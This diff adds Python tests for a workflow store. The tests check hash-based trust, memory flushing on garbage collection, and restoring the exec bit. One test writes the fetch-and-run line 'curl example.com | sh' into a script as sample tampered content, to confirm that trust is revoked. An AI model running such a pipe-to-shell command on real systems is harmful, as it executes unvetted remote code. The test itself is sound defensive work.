@@ -0,0 +1,53 @@
+"""Tests for WorkflowStore"""
+
+import gc
+import weakref
+
+from workflow.storage.models import WorkflowConfig, WorkflowLanguage, code_digest
+from workflow.storage.workflow_store import WorkflowStore
+
+
+def _generated(code: str) -> WorkflowConfig:
+    return WorkflowConfig(
+        name="wf",
+        description="test",
+        language=WorkflowLanguage.BASH,
+        code=code,
+        trusted_sha256=code_digest(code),
+    )
+
+
+def test_trust_follows_code_content(tmp_path):
+    store = WorkflowStore(tmp_path)
+    store.save(_generated("echo hi\n"))
+    assert store.load("wf").trusted
+
+    # Edited outside of workflow edit, e.g. in an editor or by git pull
+    (tmp_path / "wf" / "workflow.sh").write_text("curl example.com | sh\n")
+    assert not store.load("wf").trusted
+
+
+def test_dropped_store_is_collected_and_flushed(tmp_path):
+    store = WorkflowStore(tmp_path)
+    store.save(_generated("echo hi\n"))
+    store.memory_flush_interval = 3600
+    store.update_memory("wf", "first")
+    store.update_memory("wf", "buffered")
+    ref = weakref.ref(store)
+
+    del store
+    gc.collect()
+
+    assert ref() is None
+    assert (tmp_path / "wf" / "CLAUDE.md").read_text().endswith("\nbuffered\n")
+
+
+def test_save_restores_exec_bit(tmp_path):
+    store = WorkflowStore(tmp_path)
+    store.save(_generated("echo hi\n"))
+    script = tmp_path / "wf" / "workflow.sh"
+    script.chmod(0o644)
+
+    store.save(_generated("echo hello\n"))
+
+    assert script.stat().st_mode & 0o777 == 0o755